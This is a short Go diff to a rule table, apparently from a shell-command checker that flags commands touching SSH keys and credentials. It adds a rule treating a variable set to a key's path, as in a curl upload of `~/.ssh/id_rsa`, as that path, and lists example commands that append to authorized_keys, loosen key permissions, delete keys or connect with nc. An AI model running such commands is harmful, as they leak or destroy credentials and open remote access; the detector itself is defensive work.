@@ -86,7 +86,7 @@ var unknownTable = []unknownInfo{
 			"unless known text ends it in a name that ends no component of a credentials path nor looks like a key's or a token's " +
 			"(`\"$DIR\"/build`, `\"$OUT\".tmp`: an entry named build inside `~/.ssh` is no credential); `$TMPDIR/…` (and `${TMPDIR:-/tmp}/…`) is temporary, unless the line may set TMPDIR (`export TMPDIR=~`, `read TMPDIR`): then it is a value not known. " +
 			"A file sent to a host (`[secret]`) and a `/dev/tcp` path (`[socket]`) count only when certain: `curl -d @\"$F\"`, `echo x > \"$LOG\"` " +
-			"are left alone; a word of unknown value given to `nc`, `ncat` or `socat` might be the flag or address that runs a program " +
+			"are left alone (a variable the line assigns a secret's path is that path: `F=~/.ssh/id_rsa; curl -d @\"$F\" URL` asks); a word of unknown value given to `nc`, `ncat` or `socat` might be the flag or address that runs a program " +
 			"(`-e`, `EXEC:`), and the ask says so.",
 		Asks: []string{`echo k >> "$KEYFILE"`, `echo k > "$D/.ssh/authorized_keys"`, `K=~/.ssh/id_rsa; chmod 644 "$K"`,
 			`rm "$F"`, `rm -f "$D"/id_ed25519`, `export TMPDIR=~/.ssh; rm -f "$TMPDIR/id_ed25519"`, `nc "$HOST" 4444`},
